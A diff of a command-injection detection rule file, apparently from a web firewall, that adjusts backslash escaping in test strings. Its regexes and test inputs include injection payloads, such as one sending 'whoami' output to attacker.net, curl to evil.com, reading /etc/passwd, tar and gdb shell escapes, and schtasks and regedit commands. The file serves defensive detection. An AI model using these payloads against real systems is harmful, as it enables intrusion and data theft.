@@ -22,7 +22,7 @@ regex: (?:[;|`]|^[^\r\n]{0,100}[\r\n]|&&|\$\()\s*(?:['"\\]?(?:sudo|nohup|time|st
 test: ;rmt --version
 test: ;'rmt' --version
 test: ;"curl" http://evil.com
-test: ;gdb -nx -ex \!whoami -ex quit
+test: ;gdb -nx -ex \\!whoami -ex quit
 test: time; ansible-vault decrypt secret
 test: ;irb<<<1+2
 test: ;gcc10.1<<<void main(){}
@@ -188,9 +188,9 @@ literal: compress-program
 literal: unzip-command
 literal: to-command
 regex: \b(?:vim?|nvim|ex|view|rvim|gdb|lldb|less|more|man|ftp|sftp|mysql|psql|sqlite3|nmap|git|tar|zip|awk|gawk)\b[^;|&\n]{0,60}?(?:\s|['"]|\\|:|\+)(?:silent\\*\s*)?\\*!\s*\w|\bfind\s+\S[^;|&\n]{0,80}?-(?:exec|execdir|ok)\s+\S|\bawk\s+['"][^'"]{0,80}\bsystem\s*\(|\bgdb\s[^;|&\n]{0,60}-ex\s|\b(?:tar|zip)\s[^;|&\n]{0,60}--?(?:checkpoint-action=exec|use-compress-program|unzip-command|to-command)\b
-test: vim -c:\!pwd
-test: vim dddd +silent\\ \!whoami +wq
-test: gdb -nx -ex \!whoami -ex quit
+test: vim -c:\\!pwd
+test: vim dddd +silent\\ \\!whoami +wq
+test: gdb -nx -ex \\!whoami -ex quit
 test: find /etc -name passwd -exec cat {} +
 test: awk 'BEGIN {system("id")}'
 test: tar -cf /dev/null x --checkpoint-action=exec=sh
@@ -245,7 +245,7 @@ targets: @values, header, url, param-name
 unless: binary
 literal: $
 regex: (?-i:(?:\$\{?[a-z_][a-z0-9_]{0,7}\}?){3,})(?:[\s;|&/'"<>]|$)|(?:^|[;&|\s])[a-z_]\w*=['"]?(?:/[\w./]+|[a-z][\w.-]*|\\\s|`[^`]+`)['"]?\s*&&\s*[a-z_]\w*=|(?:[;&|`]|&&|\$\()\s*\$\{?[a-z_]\w*\}?\s+[\w./$-]|\$\(\(\s*[^)]*\)\)|\$\{\w*:?[#%/^,]{1,2}[^}]*\}
-test: c4=\ ;c3=t;c2=a;c1=c;$c1$c2$c3$c4
+test: c4=\\ ;c3=t;c2=a;c1=c;$c1$c2$c3$c4
 test: a=curl&&b=`whoami`&&$a attacker.net/$b
 test: a=/etc&&b=/passwd&&c=cat&&$c $a$b
 test: $((7))z -wrapper sh
@@ -320,7 +320,7 @@ literal: write-
 literal: import-
 literal: add-
 regex: \bregedit(?:\.exe)?\s+/[a-z]|\bschtasks(?:\.exe)?\s+/|\bbcdedit\b|\bvssadmin\s+(?:delete|list|create)\b|\bwevtutil\s+c[lr]\b|\bicacls\s+\S|\btakeown\s+/|\bnetsh\s+(?:firewall|advfirewall|interface|wlan|winhttp)\b|(?:^|[;&|])\s*sc(?:\.exe)?\s+(?:create|config|start|stop|query|delete)\b|[;&|]\s*at\s+\d{1,2}:\d{2}\b|\bfor\s+/[flrd]\s|\bif\s+(?:not\s+)?exist\s|(?:^|[;&|])\s*start\s+(?:/b\s+)?[\w\\:."]+\.(?:exe|bat|cmd|ps1|vbs)\b|\bmsiexec\s+/[iqy]|\bforfiles\s+/|\b(?:hkey_(?:local_machine|current_user|classes_root|users)|hklm|hkcu)\\\w|\b(?:cscript|wscript|mshta|rundll32)(?:\.exe)?\s|\bnet1?\s+(?:user|localgroup|group|share|use|accounts|config)\s+\S|\bfindstr\s+/[a-z]|(?:^|[;&|\n])\s*(?:get|set|new|remove|invoke|start|stop|out|select|where|write|import|add)-(?:process|service|childitem|content|item|itemproperty|wmiobject|ciminstance|acl|localuser|localgroupmember|netipaddress|executionpolicy|mppreference|webrequest|restmethod|expression|command|credential|psdrive|scheduledtask|clipboard|computerinfo|eventlog)\b
-test: ; regedit /E c:\ads\file.txt:regfile.reg HKEY_CURRENT_USER\MyCustomRegKey
+test: ; regedit /E c:\\ads\\file.txt:regfile.reg HKEY_CURRENT_USER\\MyCustomRegKey
 test: ;at 2:00 "echo test"
 test: for /f %i in ('dir') do echo %i
 test: schtasks /create /tn x /tr calc.exe
